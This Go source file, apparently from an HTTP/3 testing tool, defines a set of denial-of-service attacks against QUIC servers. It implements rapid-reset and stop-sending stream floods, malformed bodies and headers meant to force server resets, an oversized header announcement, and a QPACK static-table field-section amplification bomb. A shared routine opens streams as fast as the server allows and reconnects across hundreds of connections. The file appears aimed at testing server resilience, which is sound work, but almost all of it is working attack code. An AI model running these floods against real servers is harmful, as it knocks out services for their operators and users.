package attack

import (
	"strings"

	"github.com/godwit-quic/godwit/internal/h3"
	"github.com/godwit-quic/godwit/internal/wire"
)

var resetRows = []Row{
	{Name: "rapid-reset", Class: "Rapid-reset/stream churn", run: streamChurn(func(s *stream, b []byte) []byte {
		b = s.append(b, getRequest("/bytes/100000"), false)
		return wire.AppendResetStream(wire.AppendStopSending(b, wire.StopSending{ID: s.id, Code: uint64(h3.RequestCancelled)}),
			wire.ResetStream{ID: s.id, Code: uint64(h3.RequestCancelled), FinalSize: s.off})
	}), Does: "sends requests and resets each in the same packet"},
	{Name: "rapid-stop-sending", Class: "Rapid-reset/stream churn", run: streamChurn(func(s *stream, b []byte) []byte {
		b = s.append(b, getRequest("/bytes/100000"), true)
		return wire.AppendStopSending(b, wire.StopSending{ID: s.id, Code: uint64(h3.RequestCancelled)})
	}), Does: "sends whole requests and wants no answer"},
	{Name: "rapid-reset-slow", Class: "Rapid-reset/stream churn", run: streamChurn(func(s *stream, b []byte) []byte {
		b = s.append(b, getRequest("/slow?ms=60000"), false)
		return wire.AppendResetStream(b, wire.ResetStream{ID: s.id, Code: uint64(h3.RequestCancelled), FinalSize: s.off})
	}), Does: "resets requests whose handlers take long"},
	{Name: "bare-resets", Class: "Rapid-reset/stream churn", run: streamChurn(func(s *stream, b []byte) []byte {
		return wire.AppendResetStream(b, wire.ResetStream{ID: s.id})
	}), Does: "opens streams by resetting them"},
	{Name: "malformed-bodies", Class: "server-induced resets", run: streamChurn(func(s *stream, b []byte) []byte {
		request := append(postRequest("/digest", "content-length=5"), frame(h3.FrameData, []byte("abc"))...)
		return s.append(b, request, true)
	}), Does: "sends content that is shorter than announced, to have the server reset"},
	{Name: "malformed-headers", Class: "server-induced resets", run: streamChurn(func(s *stream, b []byte) []byte {
		return s.append(b, headers(":method=GET", ":scheme=https", ":authority=a", ":path=/", "Bad=x"), true)
	}), Does: "sends requests with a malformed header"},
	{Name: "large-headers", Class: "server-induced resets", run: streamChurn(func(s *stream, b []byte) []byte {
		return s.append(b, h3.AppendFrameHeader(nil, h3.FrameHeaders, 1<<30), true)
	}), Does: "announces headers that are too large"},
	{Name: "oversized-headers", Class: "H3 field-section bomb", run: streamChurn(func(s *stream, b []byte) []byte {
		s.c.a.fields += 1050
		return s.append(b, frame(h3.FrameHeaders, []byte("\x00\x00"+strings.Repeat("\xd9", 1050))), true)
	}), Does: "sends fields of the static table that take more than they seem"},
	{Name: "empty-requests", Class: "server-induced resets", run: streamChurn(func(s *stream, b []byte) []byte {
		return s.append(b, nil, true)
	}), Does: "opens streams and ends them without a byte"},
}

// streamChurn opens streams as fast as the server allows, several in a packet, each
// with the frames that write appends, and takes a new connection when one is closed.
func streamChurn(write func(s *stream, b []byte) []byte) func(a *attacker) error {
	return func(a *attacker) error {
		const room = 260 // for the frames of a stream, unless they fill the packet
		var conns []*conn
		a.begun()
		streams := 0
		packets := a.repeat(20_000, func(int) bool {
			if len(conns) == 0 || !conns[len(conns)-1].alive() {
				c, err := a.dial(dialing{})
				if err != nil {
					return len(conns) > 0 && !a.over()
				}
				if len(conns) == 500 {
					return false
				}
				conns = append(conns, c)
			}
			c := conns[len(conns)-1]
			b := c.payload[:0]
			for len(b) == 0 || len(b) < maxPayload-room {
				s, ok := c.open(false)
				if !ok {
					break
				}
				streams++
				b = write(s, b)
			}
			c.payload = b
			if len(b) > 0 {
				c.send(b)
			}
			return true
		})
		a.notef("%d streams in %d packets; %s", streams, packets, ends(conns))
		if len(conns) == 0 {
			return errNoHandshake
		}
		return nil
	}
}
